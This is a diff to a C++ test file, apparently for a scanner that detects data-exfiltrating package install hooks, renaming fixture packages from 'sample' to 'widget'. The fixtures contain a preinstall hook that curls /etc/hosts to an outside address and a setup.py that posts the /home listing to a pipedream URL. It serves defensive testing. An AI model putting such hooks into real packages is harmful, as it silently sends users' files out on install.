@@ -57,27 +57,27 @@ constexpr Sample samples[] = {
     {.name = "a hook uploads a file of the system",
      .expect = "package.json:1",
      .bundle = R"(==> package.json
-{"name": "sample", "version": "1.0.0", "scripts": {"preinstall": "curl --data @/etc/hosts http://192.0.2.10/"}}
+{"name": "widget", "version": "1.0.0", "scripts": {"preinstall": "curl --data @/etc/hosts http://192.0.2.10/"}}
 )"},
     {.name = "a setup script sends a listing", .expect = "setup.py:4", .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 import os
 import requests
 from setuptools import setup
-requests.post("https://sample.pipedream.net/", json=os.listdir("/home"))
-setup(name="sample", version="1.0.0")
+requests.post("https://widget.pipedream.net/", json=os.listdir("/home"))
+setup(name="widget", version="1.0.0")
 )"},
     {.name = "an upload that the user asks for", .expect = silent, .bundle = R"(==> PKG-INFO
 Metadata-Version: 2.1
-Name: sample
+Name: widget
 Version: 1.0.0
 ==> setup.py
 from setuptools import setup
-setup(name="sample", version="1.0.0", packages=["sample"])
-==> sample/__init__.py
+setup(name="widget", version="1.0.0", packages=["widget"])
+==> widget/__init__.py
 import requests
 def upload(path):
     with open(path, "rb") as file:
